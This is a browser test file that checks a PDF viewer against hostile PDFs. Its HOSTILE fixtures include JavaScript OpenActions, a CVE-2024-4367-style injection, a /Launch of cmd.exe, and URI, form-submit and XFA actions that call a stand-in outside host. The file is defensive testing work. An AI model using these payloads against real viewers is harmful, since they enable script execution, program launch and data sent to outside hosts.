"""PDFs that want more than to be looked at: nothing of them runs, is clicked, or asks elsewhere."""

import pytest
from playwright.sync_api import expect

from tests.browser import wait_until
from tests.documents.pdf_files import pdf, scan

WORDS = "Das Kabel versorgt 14 Schiffe."
ELSEWHERE = "http://elsewhere.example"
# What CVE-2024-4367 and its like were tried with: code where a number or a name is expected.
CODE = f"0\\); fetch\\('{ELSEWHERE}/font'\\);//"
SCRIPT = f"<< /S /JavaScript /JS (app.alert\\('seen'\\); fetch\\('{ELSEWHERE}/script'\\)) >>"
LINK = "/Type /Annot /Subtype /Link /Rect [0 0 595 842]"
FORM = f"""<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template
xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><draw><value><image
href="{ELSEWHERE}/xfa"/></value></draw></subform></template></xdp:xdp>"""
HOSTILE = {
    "script": {
        "catalog": f"/OpenAction {SCRIPT} /Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>",
        "page": f"/AA << /O {SCRIPT} >>",
    },
    "address": {"catalog": f"/OpenAction << /S /URI /URI ({ELSEWHERE}/opened) >>"},
    "link": {"page": f"/Annots [<< {LINK} /A << /S /URI /URI ({ELSEWHERE}/link) >> >>]"},
    "script as a link": {"page": f"/Annots [<< {LINK} /A {SCRIPT} >>]"},
    "program": {"page": f"/Annots [<< {LINK} /A << /S /Launch /F (cmd.exe) >> >>]"},
    "posted form": {
        "page": f"/Annots [<< {LINK} /A << /S /SubmitForm /F << /FS /URL /F ({ELSEWHERE}) >> >> >>]"
    },
    "note": {"page": "/Annots [<< /Type /Annot /Subtype /FreeText /Rect [0 0 595 842]"
                     f" /DA (/F1 9 Tf) /RC (<body><img src='{ELSEWHERE}/note'></body>) >>]"},
    "form": {"catalog": f"/NeedsRendering true /AcroForm << /XFA ({FORM}) >>"},
    "unit": {"page": f"/UserUnit ({CODE})"},
}  # fmt: skip


@pytest.fixture
def look(signed_in_page, checker, article, stored):
    """Return a function that shows a PDF, its first page as it is printed."""

    def look(content, as_printed=True):
        stored(content)
        page = signed_in_page(checker, f"/articles/{article.pk}/")
        page.keyboard.press("z")
        page.locator("#passages [data-open]").click()
        if as_printed:
            page.locator("#viewer [data-act=leaf]").click()
            expect(page.locator(".leaf-paper canvas")).to_be_attached()
        return page

    return look


@pytest.mark.parametrize("what", HOSTILE)
def test_nothing_of_a_hostile_file_runs_or_leaves_the_page(look, what):
    said, asked, opened = [], [], []
    page = look(pdf(WORDS, **HOSTILE[what]))
    expect(page.locator(".textLayer span").first).to_be_attached()
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.context.on("request", lambda request: asked.append(request.url))
    page.context.on("page", lambda other: opened.append(other.url))
    here = page.url

    page.locator(".leaf-paper").click()
    page.locator("#viewer [data-act=leaf]").click()
    page.locator("#viewer [data-act=leaf]").click()
    expect(page.locator(".textLayer span").first).to_be_attached()

    assert (said, opened, page.url) == ([], [], here)
    assert [url for url in asked if url.startswith(ELSEWHERE)] == []
    assert page.locator(".leaf-paper :is(a, area, button, form, iframe, img, input)").count() == 0


@pytest.mark.parametrize("size", [(595, 60_000), (60_000, 595), (10_000_000, 10_000_000)])
def test_a_page_of_any_size_is_drawn_on_a_canvas_that_a_browser_can_draw(look, size):
    page = look(pdf(WORDS, size=size))

    wait_until(page, "() => document.querySelector('.leaf-paper canvas')?.width > 0")
    width, height = page.locator(".leaf-paper canvas").evaluate("(it) => [it.width, it.height]")
    assert max(width, height) <= 32_767
    assert 0 < width * height <= 2**25 + width + height


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_a_picture_that_would_take_gigabytes_is_not_drawn(look):
    page = look(scan("fax", (10_001, 10_001)), as_printed=False)

    expect(page.locator("#viewer [data-empty]")).to_be_visible()


def test_a_page_that_takes_too_long_gives_way_to_its_text_and_is_asked_for_again(look):
    page = look(pdf(WORDS), as_printed=False)
    page.clock.install()
    page.route("**/documents/*/file/", lambda _route: None)
    with page.expect_request("**/documents/*/file/"):
        page.locator("#viewer [data-act=leaf]").click()
    page.clock.fast_forward(30_000)
    expect(page.locator("#viewer .is-leaf")).to_have_count(0)
    expect(page.locator("#viewer")).to_contain_text(WORDS)

    page.unroute("**/documents/*/file/")
    for _press in range(2):
        page.locator("#viewer [data-act=leaf]").click()
    expect(page.locator(".textLayer span").first).to_be_attached()
